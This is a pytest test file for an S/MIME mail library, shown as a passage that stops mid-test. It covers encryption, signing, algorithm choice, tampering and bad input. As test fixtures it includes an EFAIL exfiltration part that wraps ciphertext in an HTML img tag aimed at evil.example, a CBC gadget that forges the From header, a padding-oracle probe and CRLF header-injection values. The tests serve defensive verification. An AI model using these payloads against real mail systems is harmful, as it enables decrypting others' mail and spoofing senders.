"""S/MIME messages: encrypt, decrypt, sign and verify whole messages (RFC 8551).

The CMS structures underneath have their own tests (test_enveloped.py, test_signed.py); here
the unit is a message on the wire: which algorithms the default profile picks, what a
tampered or misdirected message gives, which signature status each situation earns, and which
inputs are refused.
"""

from __future__ import annotations

import base64
import datetime as dt
import email.message
import hashlib
from collections.abc import Callable

import pki
import pytest
from asn1crypto import cms
from cryptography import x509
from cryptography.x509.oid import ExtendedKeyUsageOID
from pki import (
    NOW,
    Issued,
    ciphertext_of,
    flip,
    identity,
    iv_of,
    mac_of,
    message,
    nonce_of,
    replace_once,
    set_ciphertext,
    set_gcm,
    set_iv,
    set_mac,
    signed_parts,
    smime_der,
    split_head,
    with_smime_der,
)

from securemail.errors import (
    DECRYPTION_FAILED,
    CertificateExpiredError,
    CertificateUsageError,
    DecryptionError,
    EmbeddedCiphertextError,
    HeaderInjectionError,
    MalformedASN1Error,
    MalformedMessageError,
    NotARecipientError,
    NotSignedError,
    PartialSignatureError,
    RecipientError,
    SecureMailError,
    SignatureInvalidError,
    SignerMismatch,
    SizeLimitExceeded,
    UnauthenticatedContentError,
    UntrustedCertificateError,
)
from securemail.keys import Identity, Recipient
from securemail.policy import (
    COMPATIBLE,
    DEFAULT,
    STRICT,
    ContentCipher,
    DigestAlgorithm,
    KeyTransport,
    Policy,
    SignatureMode,
    SignaturePadding,
)
from securemail.results import ProtectedMessage, SignatureStatus, VerifyResult
from securemail.smime import (
    ANNOUNCED,
    MODERN,
    Capabilities,
    _asn1,
    choose_algorithms,
    decrypt,
    encrypt,
    sign,
    verify,
)

KEY_TYPES = ["rsa", "rsa3072", "p256", "p384", "x25519"]
MIXES = [("rsa", "p256", "x25519"), ("rsa3072", "p384", "rsa")]
OAEP, PKCS1 = KeyTransport.RSA_OAEP, KeyTransport.RSA_PKCS1V15
GCM256, CBC256 = ContentCipher.AES_256_GCM, ContentCipher.AES_256_CBC
DAY = dt.timedelta(days=1)
LEGACY = Capabilities(algorithms=(_asn1.OID_AES256_CBC, _asn1.OID_RSA_ENCRYPTION))
TEXT = "The numbers are in.\n"


@pytest.fixture(scope="module")
def p() -> pki.PKI:
    return pki.shared_pki()


@pytest.fixture(scope="module")
def ids(p: pki.PKI) -> dict[str, Identity]:
    """An identity per user of the PKI, each with the intermediate as its chain."""
    return {name: identity(user, p.intermediate) for name, user in p.users.items()}


def email_of(user: Issued) -> str:
    san = user.cert.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    return str(san.get_values_for_type(x509.RFC822Name)[0])


def from_(user: Issued, **kwargs: object) -> email.message.EmailMessage:
    """A message whose From is ``user``'s address."""
    return message(sender=email_of(user), **kwargs)  # type: ignore[arg-type]


def check(p: pki.PKI, data: object, **kwargs: object) -> VerifyResult:
    """Verify against the test root, with the intermediate known."""
    return verify(data, trust=[p.root.cert], certificates=[p.intermediate.cert], **kwargs)  # type: ignore[arg-type]


def fixed(cipher: ContentCipher, transport: KeyTransport, **changes: object) -> Policy:
    return Policy(content_cipher=cipher, key_transport=transport, **changes)  # type: ignore[arg-type]


def envelope_of(protected: ProtectedMessage | bytes) -> cms.ContentInfo:
    data = protected.data if isinstance(protected, ProtectedMessage) else protected
    return cms.ContentInfo.load(smime_der(data))


def transports_used(protected: ProtectedMessage) -> list[str]:
    """Key transport per RSA recipient info, in recipient order ("kari" for EC)."""
    infos = envelope_of(protected)["content"]["recipient_infos"]
    return [
        info.chosen["key_encryption_algorithm"]["algorithm"].native
        if info.name == "ktri"
        else "kari"
        for info in infos
    ]


def cipher_used(protected: ProtectedMessage) -> str:
    info = envelope_of(protected)
    body = info["content"]
    enc = (
        body["auth_encrypted_content_info"]
        if info["content_type"].native == "authenticated_enveloped_data"
        else body["encrypted_content_info"]
    )
    return str(enc["content_encryption_algorithm"]["algorithm"].dotted)


# --- round trips ---------------------------------------------------------------------------------


@pytest.mark.parametrize("key_type", KEY_TYPES)
@pytest.mark.parametrize("transport", list(KeyTransport))
@pytest.mark.parametrize("cipher", list(ContentCipher))
def test_encrypt_decrypt_one_recipient(
    p: pki.PKI,
    ids: dict[str, Identity],
    cipher: ContentCipher,
    transport: KeyTransport,
    key_type: str,
) -> None:
    protected = encrypt(message(), [p.users[key_type].cert], policy=fixed(cipher, transport))
    smime_type = b"authEnveloped-data" if cipher.authenticated else b"enveloped-data"
    assert b"smime-type=" + smime_type in split_head(protected.data)[0].replace(b'"', b"")
    result = decrypt(protected, ids[key_type])
    assert result.authenticated is cipher.authenticated
    assert result.content_cipher == cipher.value
    assert result.recipient == email_of(p.users[key_type])
    assert result.signed is False
    assert result.message["Subject"] == "Quarterly report"
    assert result.message.get_content() == TEXT


@pytest.mark.parametrize("mix", MIXES, ids="-".join)
@pytest.mark.parametrize("transport", list(KeyTransport))
@pytest.mark.parametrize("cipher", list(ContentCipher))
def test_encrypt_to_three_recipients_of_mixed_types(
    p: pki.PKI,
    ids: dict[str, Identity],
    cipher: ContentCipher,
    transport: KeyTransport,
    mix: tuple[str, ...],
) -> None:
    recipients = [p.users[name].cert for name in mix]
    protected = encrypt(message(), recipients, policy=fixed(cipher, transport))
    for name in mix:
        result = decrypt(protected, ids[name])
        assert (result.authenticated, result.content_cipher) == (cipher.authenticated, cipher)
        assert result.message.get_content() == TEXT


def test_recipients_may_be_given_as_recipient_identity_or_certificate(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    protected = encrypt(
        message(),
        [Recipient.from_certificate(p.users["p256"].cert), ids["p384"], p.users["x25519"].cert],
    )
    for name in ("p256", "p384", "x25519"):
        assert decrypt(protected, ids[name]).message.get_content() == TEXT


def test_encrypt_to_self_when_signing(p: pki.PKI, ids: dict[str, Identity]) -> None:
    alice = ids["rsa"]
    protected = encrypt(from_(p.users["rsa"]), [p.users["p256"].cert], signer=alice)
    assert decrypt(protected, alice).signed is True
    assert decrypt(protected, ids["p256"]).signed is True


def test_no_copy_to_self_when_the_policy_says_so(p: pki.PKI, ids: dict[str, Identity]) -> None:
    policy = DEFAULT.clone(encrypt_to_self=False)
    protected = encrypt(
        from_(p.users["rsa"]), [p.users["p256"].cert], signer=ids["rsa"], policy=policy
    )
    with pytest.raises(NotARecipientError):
        decrypt(protected, ids["rsa"])
    assert decrypt(protected, ids["p256"]).signed is True


@pytest.mark.parametrize("mode", list(SignatureMode))
@pytest.mark.parametrize("cipher", [GCM256, CBC256])
def test_sign_then_encrypt_decrypts_to_a_verifiable_message(
    p: pki.PKI, ids: dict[str, Identity], cipher: ContentCipher, mode: SignatureMode
) -> None:
    policy = fixed(cipher, OAEP, signature_mode=mode)
    protected = encrypt(
        from_(p.users["p256"]), [p.users["rsa"].cert], signer=ids["p256"], policy=policy
    )
    decrypted = decrypt(protected, ids["rsa"])
    assert decrypted.signed is True
    assert decrypted.authenticated is cipher.authenticated
    result = check(p, decrypted.data)
    assert result.status is SignatureStatus.VERIFIED, result.reason
    assert result.signer == "carol@example.com"
    assert result.message is not None
    assert result.message.get_content() == TEXT


def test_signed_message_can_be_encrypted_afterwards(p: pki.PKI, ids: dict[str, Identity]) -> None:
    """sign | encrypt: a ProtectedMessage is wrapped as it is, so its signature survives."""
    signed = sign(from_(p.users["rsa"]), ids["rsa"])
    decrypted = decrypt(encrypt(signed, [p.users["p384"].cert]), ids["p384"])
    assert decrypted.signed is True
    assert check(p, decrypted.data).status is SignatureStatus.VERIFIED


# --- the default profile and the presets ---------------------------------------------------------


def recipient(p: pki.PKI, name: str, capabilities: Capabilities | None) -> Recipient:
    return Recipient(p.users[name].cert, capabilities=capabilities)


@pytest.mark.parametrize(
    ("capabilities", "cipher", "transports"),
    [
        ([MODERN, MODERN], GCM256, [OAEP, OAEP]),
        ([ANNOUNCED, MODERN], GCM256, [OAEP, OAEP]),
        ([MODERN, None], CBC256, [OAEP, PKCS1]),
        ([None, None], CBC256, [PKCS1, PKCS1]),
        ([LEGACY, MODERN], CBC256, [PKCS1, OAEP]),
        (
            [Capabilities(algorithms=(_asn1.OID_AES128_GCM,)), MODERN],
            GCM256,
            [PKCS1, OAEP],
        ),
    ],
    ids=[
        "all-modern",
        "announced-and-modern",
        "one-unknown",
        "all-unknown",
        "one-legacy",
        "gcm-no-oaep",
    ],
)
def test_choose_algorithms_per_recipient(
    p: pki.PKI,
    capabilities: list[Capabilities | None],
    cipher: ContentCipher,
    transports: list[KeyTransport],
) -> None:
    recipients = [
        recipient(p, name, caps)
        for name, caps in zip(["rsa", "rsa3072"], capabilities, strict=True)
    ]
    chosen, envelope = choose_algorithms(recipients, DEFAULT)
    assert chosen is cipher
    assert [e.key_transport for e in envelope] == transports
    assert [e.certificate for e in envelope] == [r.certificate for r in recipients]


@pytest.mark.parametrize(
    ("policy", "cipher", "transport"),
    [
        (Policy(content_cipher=ContentCipher.AES_128_CBC), ContentCipher.AES_128_CBC, OAEP),
        (Policy(key_transport=PKCS1), GCM256, PKCS1),
        (
            Policy(content_cipher=ContentCipher.AES_128_GCM, key_transport=PKCS1),
            ContentCipher.AES_128_GCM,
            PKCS1,
        ),
        (STRICT, GCM256, OAEP),
        (COMPATIBLE, CBC256, PKCS1),
    ],
    ids=["cipher", "transport", "both", "strict", "compatible"],
)
def test_explicit_policy_overrides_the_profile(
    p: pki.PKI, policy: Policy, cipher: ContentCipher, transport: KeyTransport
) -> None:
    chosen, envelope = choose_algorithms([recipient(p, "rsa", MODERN)], policy)
    assert (chosen, envelope[0].key_transport) == (cipher, transport)


def test_strict_forces_gcm_and_oaep_even_for_unknown_recipients(p: pki.PKI) -> None:
    chosen, envelope = choose_algorithms([recipient(p, "rsa", None)], STRICT)
    assert (chosen, envelope[0].key_transport) == (GCM256, OAEP)


@pytest.mark.parametrize(
    ("extension", "oid", "transport"),
    [
        (MODERN, _asn1.OID_AES256_GCM, "rsaes_oaep"),
        (LEGACY, _asn1.OID_AES256_CBC, "rsaes_pkcs1v15"),
        (None, _asn1.OID_AES256_CBC, "rsaes_pkcs1v15"),
    ],
    ids=["modern", "legacy", "none"],
)
def test_certificate_smime_capabilities_extension_drives_the_choice(
    p: pki.PKI,
    extension: Capabilities | None,
    oid: str,
    transport: str,
) -> None:
    der = None if extension is None else bytes(extension.to_asn1().dump())
    user = pki.issue(
        common_name="Caps",
        email="caps@example.com",
        issuer=p.intermediate,
        key=p.users["rsa"].key,
        smime_capabilities=der,
    )
    assert Recipient.from_certificate(user.cert).capabilities == extension
    protected = encrypt(message(to=["caps@example.com"]), [user.cert])
    assert cipher_used(protected) == oid
    assert transports_used(protected) == [transport]
    assert decrypt(protected, identity(user)).message.get_content() == TEXT


def test_recipient_capabilities_given_by_the_caller(p: pki.PKI, ids: dict[str, Identity]) -> None:
    protected = encrypt(message(), [Recipient(p.users["rsa"].cert, capabilities=MODERN)])
    assert (cipher_used(protected), transports_used(protected)) == (
        _asn1.OID_AES256_GCM,
        ["rsaes_oaep"],
    )
    assert decrypt(protected, ids["rsa"]).authenticated is True


def test_one_legacy_recipient_downgrades_everyone_to_cbc(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    protected = encrypt(
        message(),
        [Recipient(p.users["rsa"].cert, capabilities=MODERN), p.users["rsa3072"].cert],
    )
    assert transports_used(protected) == ["rsaes_oaep", "rsaes_pkcs1v15"]
    assert decrypt(protected, ids["rsa"]).authenticated is False


def test_strict_refuses_to_read_cbc(p: pki.PKI, ids: dict[str, Identity]) -> None:
    protected = encrypt(message(), [p.users["p256"].cert], policy=COMPATIBLE)
    assert decrypt(protected, ids["p256"]).content_cipher == "aes-256-cbc"
    with pytest.raises(UnauthenticatedContentError):
        decrypt(protected, ids["p256"], policy=STRICT)
    strict = encrypt(message(), [p.users["p256"].cert], policy=STRICT)
    assert decrypt(strict, ids["p256"], policy=STRICT).authenticated is True


# --- tampering, uniform errors, EFAIL ------------------------------------------------------------


def sealed(p: pki.PKI, cipher: ContentCipher = GCM256, name: str = "rsa") -> ProtectedMessage:
    return encrypt(
        message(), [p.users[name].cert], policy=fixed(cipher, OAEP, header_protection=False)
    )


@pytest.mark.parametrize(
    "tamper",
    [
        pytest.param(lambda der: set_mac(der, flip(mac_of(der), 15, 0x01)), id="mac"),
        pytest.param(lambda der: set_gcm(der, nonce=flip(nonce_of(der), 0, 0x01)), id="nonce"),
        pytest.param(lambda der: set_ciphertext(der, flip(ciphertext_of(der), 7, 0x01)), id="ct"),
        pytest.param(lambda der: set_ciphertext(der, ciphertext_of(der)[:-16]), id="ct-short"),
    ],
)
def test_tampered_gcm_message_gives_the_uniform_error(
    p: pki.PKI, ids: dict[str, Identity], tamper: Callable[[bytes], bytes]
) -> None:
    protected = sealed(p)
    forged = with_smime_der(protected.data, tamper(smime_der(protected.data)))
    with pytest.raises(DecryptionError) as info:
        decrypt(forged, ids["rsa"])
    assert str(info.value) == DECRYPTION_FAILED


def test_message_level_failures_all_read_the_same(p: pki.PKI, ids: dict[str, Identity]) -> None:
    """Wrong key (the right certificate with another private key), bad tag, bad CBC padding,
    truncated ciphertext: one message for all."""
    gcm, cbc = sealed(p, GCM256).data, sealed(p, CBC256).data
    blocks = ciphertext_of(smime_der(cbc))
    wrong_key = Identity(private_key=pki.new_key("rsa3072"), certificate=p.users["rsa"].cert)  # type: ignore[arg-type]
    cases = {
        "wrong key gcm": (gcm, wrong_key),
        "wrong key cbc": (cbc, wrong_key),
        "bad tag": (with_smime_der(gcm, set_mac(smime_der(gcm), bytes(16))), ids["rsa"]),
        "bad padding": (
            with_smime_der(cbc, set_ciphertext(smime_der(cbc), blocks[:16])),
            ids["rsa"],
        ),
        "truncated": (with_smime_der(cbc, set_ciphertext(smime_der(cbc), blocks[:-1])), ids["rsa"]),
    }
    messages = {}
    for name, (data, who) in cases.items():
        with pytest.raises(DecryptionError) as info:
            decrypt(data, who)
        messages[name] = str(info.value)
    assert set(messages.values()) == {DECRYPTION_FAILED}, messages


def test_cbc_padding_gives_no_oracle_at_message_level(p: pki.PKI, ids: dict[str, Identity]) -> None:
    """Vaudenay's padding oracle needs to tell "bad padding" from "good padding, bad content".
    Take one ciphertext block and try every value of the last IV byte: one value makes valid
    padding (0x01) over 15 bytes of garbage. Whatever decrypt does with that garbage, a failure
    must read exactly like the bad-padding failures of the 255 other values."""
    protected = sealed(p, CBC256)
    der = smime_der(protected.data)
    last_block = ciphertext_of(der)[-16:]
    one_block = set_ciphertext(der, last_block)
    outcomes: dict[str, int] = {}
    for value in range(256):
        iv = iv_of(one_block)[:15] + bytes([value])
        try:
            decrypt(with_smime_der(protected.data, set_iv(one_block, iv)), ids["rsa"])
        except DecryptionError as exc:
            outcomes[str(exc)] = outcomes.get(str(exc), 0) + 1
        else:
            outcomes["<returned>"] = outcomes.get("<returned>", 0) + 1
    assert set(outcomes) <= {DECRYPTION_FAILED, "<returned>"}, outcomes


def test_efail_cbc_gadget_is_never_reported_as_authenticated(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    """XOR a chosen difference into the IV: the first plaintext block changes undetected. Here
    it rewrites the protected From header; the result must not claim integrity, and a policy
    that requires authenticated encryption must refuse it."""
    protected = encrypt(message(), [p.users["rsa"].cert], policy=fixed(CBC256, OAEP))
    der = smime_der(protected.data)
    known, chosen = b"From: alice@exam", b"From: eve@evil.x"
    delta = bytes(a ^ b for a, b in zip(known, chosen, strict=True))
    forged = with_smime_der(
        protected.data, set_iv(der, bytes(a ^ b for a, b in zip(iv_of(der), delta, strict=True)))
    )
    result = decrypt(forged, ids["rsa"])
    assert result.authenticated is False
    assert b"From: eve@evil.x" in result.data
    with pytest.raises(UnauthenticatedContentError):
        decrypt(forged, ids["rsa"], policy=DEFAULT.clone(require_authenticated_encryption=True))


def mixed(
    *parts: bytes,
    headers: bytes = b"From: alice@example.com\r\n",
    boundary: bytes = b"mixed-boundary-1",
) -> bytes:
    """A multipart/mixed message whose parts are the given entities (header block + body)."""
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return (
        headers
        + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="'
        + boundary
        + b'"\r\n\r\n'
        + body
        + b"--"
        + boundary
        + b"--\r\n"
    )


def entity_of(data: bytes) -> bytes:
    """The MIME entity of a whole message: its Content-* fields and body."""
    head, body = split_head(data)
    lines = [line for line in head.split(b"\r\n") if line]
    kept, keep = [], False
    for line in lines:
        if line[:1] not in (b" ", b"\t"):
            keep = line.lower().startswith(b"content-")
        if keep:
            kept.append(line + b"\r\n")
    return b"".join(kept) + b"\r\n" + body


HTML_PART = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'


def test_embedded_ciphertext_is_refused(p: pki.PKI, ids: dict[str, Identity]) -> None:
    """EFAIL direct exfiltration: an encrypted part between attacker-written HTML parts."""
    protected = sealed(p)
    data = mixed(HTML_PART, entity_of(protected.data), b'Content-Type: text/html\r\n\r\n">')
    with pytest.raises(EmbeddedCiphertextError):
        decrypt(data, ids["rsa"])


def test_embedded_ciphertext_deeper_down_is_refused(p: pki.PKI, ids: dict[str, Identity]) -> None:
    inner = mixed(entity_of(sealed(p).data), HTML_PART, boundary=b"mixed-boundary-2")
    with pytest.raises(EmbeddedCiphertextError):
        decrypt(mixed(entity_of(inner)), ids["rsa"])


# --- wrong key -----------------------------------------------------------------------------------


@pytest.mark.parametrize("cipher", [GCM256, CBC256])
def test_decrypting_with_another_identity_is_not_a_recipient(
    p: pki.PKI, ids: dict[str, Identity], cipher: ContentCipher
) -> None:
    protected = encrypt(
        message(), [p.users["rsa"].cert, p.users["p256"].cert], policy=fixed(cipher, OAEP)
    )
    for other in ("rsa3072", "p384", "x25519"):
        with pytest.raises(NotARecipientError):
            decrypt(protected, ids[other])


# --- signing -------------------------------------------------------------------------------------


SIGNERS = [
    ("rsa", SignaturePadding.PKCS1V15, "rsassa_pkcs1v15"),
    ("rsa", SignaturePadding.PSS, "rsassa_pss"),
    ("p256", SignaturePadding.PKCS1V15, "ecdsa"),
    ("p384", SignaturePadding.PKCS1V15, "ecdsa"),
    ("ed25519", SignaturePadding.PKCS1V15, "ed25519"),
]


@pytest.mark.parametrize("mode", list(SignatureMode))
@pytest.mark.parametrize("digest", list(DigestAlgorithm))
@pytest.mark.parametrize(
    ("name", "padding", "algorithm"), SIGNERS, ids=["rsa", "pss", "p256", "p384", "ed25519"]
)
def test_sign_and_verify(
    p: pki.PKI,
    ids: dict[str, Identity],
    name: str,
    padding: SignaturePadding,
    algorithm: str,
    digest: DigestAlgorithm,
    mode: SignatureMode,
) -> None:
    policy = Policy(digest=digest, rsa_padding=padding, signature_mode=mode)
    protected = sign(from_(p.users[name]), ids[name], policy=policy)
    used = pki.expected_digest(name, digest.value)
    head = split_head(protected.data)[0].replace(b'"', b"")
    if mode is SignatureMode.DETACHED:
        assert b"multipart/signed" in head
        assert b"micalg=" + DigestAlgorithm(used).micalg.encode() in head
    else:
        assert b"smime-type=signed-data" in head
    result = check(p, protected).raise_for_status()
    assert result.status is SignatureStatus.VERIFIED
    assert result.reason == "signature verified"
    assert result.signer == email_of(p.users[name])
    assert result.certificate == p.users[name].cert
    assert result.chain == (p.users[name].cert, p.intermediate.cert, p.root.cert)
    assert result.digest_algorithm == used
    assert algorithm in str(result.signature_algorithm)
    assert result.capabilities == ANNOUNCED
    assert result.signing_time is not None
    assert abs(result.signing_time - dt.datetime.now(dt.UTC)) < dt.timedelta(minutes=5)
    assert result.message is not None
    assert result.message.get_content() == TEXT
    assert result.message["Subject"] == "Quarterly report"


def test_signing_time_can_be_given(p: pki.PKI, ids: dict[str, Identity]) -> None:
    when = NOW - dt.timedelta(hours=3)
    result = check(p, sign(from_(p.users["p256"]), ids["p256"], signing_time=when))
    assert result.signing_time == when


@pytest.mark.parametrize("mode", list(SignatureMode))
def test_include_chain_lets_a_verifier_with_only_the_root_succeed(
    p: pki.PKI, ids: dict[str, Identity], mode: SignatureMode
) -> None:
    data = from_(p.users["rsa"])
    bare = sign(data, ids["rsa"], policy=Policy(signature_mode=mode))
    with_chain = sign(data, ids["rsa"], policy=Policy(signature_mode=mode, include_chain=True))
    without = verify(bare, trust=[p.root.cert])
    assert without.status is SignatureStatus.FAILED
    assert isinstance(without.error, UntrustedCertificateError)
    assert verify(with_chain, trust=[p.root.cert]).status is SignatureStatus.VERIFIED


def test_signed_message_read_with_lf_line_endings_still_verifies(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    """As from a Unix mbox: every CRLF became LF."""
    for mode in SignatureMode:
        protected = sign(from_(p.users["rsa"]), ids["rsa"], policy=Policy(signature_mode=mode))
        assert check(p, protected.data.replace(b"\r\n", b"\n")).verified


def test_transmitted_bytes_contain_exactly_the_signed_bytes(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    protected = sign(from_(p.users["rsa"], text="Grüße\nFrom here\nend   \n"), ids["rsa"])
    signed, der = signed_parts(protected.data)
    attrs = cms.ContentInfo.load(der)["content"]["signer_infos"][0]["signed_attrs"]
    (digest,) = (a["values"][0].native for a in attrs if a["type"].native == "message_digest")
    assert digest == hashlib.sha256(signed).digest()
    assert protected.data.count(signed) == 1


# --- verification statuses -----------------------------------------------------------------------


def detached(p: pki.PKI, ids: dict[str, Identity], name: str = "rsa") -> bytes:
    return sign(from_(p.users[name]), ids[name]).data


def tamper_signed_part(data: bytes, old: bytes, new: bytes) -> bytes:
    signed, _ = signed_parts(data)
    return replace_once(data, signed, replace_once(signed, old, new))


def tamper_signature_value(data: bytes) -> bytes:
    _, der = signed_parts(data)
    info = cms.ContentInfo.load(der)
    signer = info["content"]["signer_infos"][0]
    signer["signature"] = flip(signer["signature"].native, 10, 0x01)
    new = bytes(info.dump(force=True))
    return replace_once(data, pki.base64_lines(der), pki.base64_lines(new))


@pytest.mark.parametrize(
    "tamper",
    [
        pytest.param(
            lambda d: tamper_signed_part(d, b"numbers are in", b"numbers are 1n"), id="body"
        ),
        pytest.param(
            lambda d: tamper_signed_part(d, b"Subject: Quarterly", b"Subject: Quarterlz"),
            id="header",
        ),
        pytest.param(
            lambda d: tamper_signed_part(d, b'charset="utf-8"', b'charset="utf-7"'),
            id="content-type",
        ),
        pytest.param(tamper_signature_value, id="signature-value"),
    ],
)
def test_one_changed_byte_fails_the_signature(
    p: pki.PKI, ids: dict[str, Identity], tamper: Callable[[bytes], bytes]
) -> None:
    result = check(p, tamper(detached(p, ids)))
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignatureInvalidError)
    with pytest.raises(SignatureInvalidError):
        result.raise_for_status()


def test_tampered_opaque_content_fails(p: pki.PKI, ids: dict[str, Identity]) -> None:
    protected = sign(from_(p.users["p256"]), ids["p256"], policy=Policy(signature_mode="opaque"))
    der = smime_der(protected.data)
    info = cms.ContentInfo.load(der)
    encap = info["content"]["encap_content_info"]
    encap["content"] = replace_once(encap["content"].native, b"numbers", b"numbars")
    result = check(p, with_smime_der(protected.data, bytes(info.dump(force=True))))
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignatureInvalidError)


def issued_signer(p: pki.PKI, **kwargs: object) -> Issued:
    """A signing certificate for alice@example.com (the RSA key reused: no key generation)."""
    options: dict[str, object] = {
        "common_name": "Alice (variant)",
        "email": "alice@example.com",
        "issuer": p.intermediate,
        "key": p.users["rsa"].key,
    }
    options.update(kwargs)
    return pki.issue(**options)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("make", "error"),
    [
        pytest.param(
            lambda p: issued_signer(p, not_before=NOW - 10 * DAY, not_after=NOW - DAY),
            CertificateExpiredError,
            id="expired",
        ),
        pytest.param(
            lambda p: issued_signer(
                p, issuer=pki.issue(common_name="Other Root", purpose="ca", key_type="p256")
            ),
            UntrustedCertificateError,
            id="untrusted-root",
        ),
        pytest.param(
            lambda p: issued_signer(p, eku=[ExtendedKeyUsageOID.SERVER_AUTH]),
            CertificateUsageError,
            id="no-email-eku",
        ),
    ],
)
def test_certificate_problems_fail_with_their_type(
    p: pki.PKI, make: Callable[[pki.PKI], Issued], error: type[SecureMailError]
) -> None:
    signer = make(p)
    result = check(p, sign(message(), identity(signer)))
    assert result.status is SignatureStatus.FAILED
    assert type(result.error) is error
    assert not result.verified
    with pytest.raises(error):
        result.raise_for_status()


def test_expired_signer_verifies_at_a_time_it_was_valid(p: pki.PKI) -> None:
    signer = issued_signer(p, not_before=NOW - DAY / 2, not_after=NOW - DAY / 4)
    data = sign(message(), identity(signer))
    assert check(p, data).status is SignatureStatus.FAILED
    assert check(p, data, at=NOW - DAY / 3).status is SignatureStatus.VERIFIED


def test_sender_other_than_the_certificate_is_a_signer_mismatch(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    data = sign(message(sender="mallory@example.com"), ids["rsa"])
    result = check(p, data)
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignerMismatch)
    assert (result.error.signer, result.error.sender) == (
        "alice@example.com",
        "mallory@example.com",
    )
    with pytest.raises(SignerMismatch):
        result.raise_for_status()
    relaxed = DEFAULT.clone(require_signer_matches_from=False)
    assert check(p, data, policy=relaxed).status is SignatureStatus.VERIFIED


def test_outer_from_rewritten_on_a_message_without_header_protection(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    data = sign(message(), ids["rsa"], policy=Policy(header_protection=False)).data
    forged = replace_once(data, b"From: alice@example.com", b"From: mallory@example.com")
    result = check(p, forged)
    assert isinstance(result.error, SignerMismatch)


def test_signature_on_one_part_of_a_larger_message_is_partial(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    signed = detached(p, ids)
    data = mixed(entity_of(signed), b"Content-Type: text/plain\r\n\r\nunsigned addition\r\n")
    result = check(p, data)
    assert result.status is SignatureStatus.PARTIAL
    assert not result.verified
    assert isinstance(result.error, PartialSignatureError)
    with pytest.raises(PartialSignatureError):
        result.raise_for_status()


def test_unsigned_part_before_the_signed_one_is_still_partial(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    data = mixed(HTML_PART + b'">', entity_of(detached(p, ids)))
    assert check(p, data).status is SignatureStatus.PARTIAL


def test_unsigned_message_is_not_checked(p: pki.PKI) -> None:
    data = message().as_bytes()
    result = check(p, data)
    assert result.status is SignatureStatus.NOT_CHECKED
    assert isinstance(result.error, NotSignedError)
    with pytest.raises(NotSignedError):
        result.raise_for_status()


def test_raise_for_status_returns_the_verified_result(p: pki.PKI, ids: dict[str, Identity]) -> None:
    result = check(p, detached(p, ids))
    assert result.raise_for_status() is result


# --- bad input -----------------------------------------------------------------------------------


INJECTIONS = ["x\r\nBcc: eve@example.net", "x\n\nInjected body", "x\rTo: eve@example.net", "x\x00y"]


def with_raw_subject(cls: type[email.message.Message], value: str) -> email.message.Message:
    """A user-built message whose Subject holds ``value`` unchecked (CVE-2024-6923: the
    standard library's setters refuse some line breaks, but its raw header list does not)."""
    msg = cls()
    msg["From"] = "alice@example.com"
    msg["To"] = "bob@example.com"
    msg.set_payload("real body\n")
    msg._headers.append(("Subject", value))  # type: ignore[attr-defined]
    return msg


@pytest.mark.parametrize("value", INJECTIONS, ids=["crlf-bcc", "blank-line", "cr", "nul"])
@pytest.mark.parametrize("cls", [email.message.EmailMessage, email.message.Message])
@pytest.mark.parametrize("operation", ["sign", "encrypt"])
def test_line_breaks_in_header_values_are_refused(
    p: pki.PKI,
    ids: dict[str, Identity],
    operation: str,
    cls: type[email.message.Message],
    value: str,
) -> None:
    msg = with_raw_subject(cls, value)
    with pytest.raises(HeaderInjectionError) as info:
        if operation == "sign":
            sign(msg, ids["rsa"])  # type: ignore[arg-type]
        else:
            encrypt(msg, [p.users["rsa"].cert])  # type: ignore[arg-type]
    assert info.value.field.lower() == "subject"


@pytest.mark.parametrize(
    ("body", "decrypt_error", "verify_error"),
    [
        pytest.param(b"MIIB", DecryptionError, MalformedASN1Error, id="truncated-der"),
        pytest.param(
            base64.b64encode(bytes(range(200))),
            DecryptionError,
            MalformedASN1Error,
            id="base64-garbage",
        ),
        pytest.param(
            b"\x00\xff garbage \x80", MalformedMessageError, MalformedMessageError, id="not-base64"
        ),
    ],
)
def test_broken_pkcs7_bodies(
    p: pki.PKI,
    ids: dict[str, Identity],
    body: bytes,
    decrypt_error: type[Exception],
    verify_error: type[Exception],
) -> None:
    head = b"From: alice@example.com\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: base64\r\n"
    enveloped = (
        head + b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n" + body
    )
    signed = head + b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n" + body
    with pytest.raises(decrypt_error):
        decrypt(enveloped, ids["rsa"])
    with pytest.raises(verify_error):
        check(p, signed)


def test_truncated_real_ciphertext_is_a_decryption_error(
    p: pki.PKI, ids: dict[str, Identity]
) -> None:
    protected = sealed(p)
    der = smime_der(protected.data)
    for cut in (1, 17, len(der) // 2):
        with pytest.raises(DecryptionError):
            decrypt(with_smime_der(protected.data, der[:-cut]), ids["rsa"])


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"\r\n\r\n", id="blank"),
        pytest.param(
            b"From: alice@example.com\r\nSubject: no type\r\n\r\nplain text\r\n",
            id="no-content-type",
        ),
        pytest.param(message().as_bytes(), id="plain-message"),
    ],
)
def test_decrypting_what_is_not_encrypted(ids: dict[str, Identity], data: bytes) -> None:
    with pytest.raises(MalformedMessageError):
        decrypt(data, ids["rsa"])


def test_decrypting_a_signed_message_says_so(p: pki.PKI, ids: dict[str, Identity]) -> None:
    opaque = sign(message(), ids["rsa"], policy=Policy(signature_mode="opaque"))
    with pytest.raises(MalformedMessageError, match="signed-data"):
        decrypt(opaque, ids["rsa"])


@pytest.mark.parametrize(
    "data",
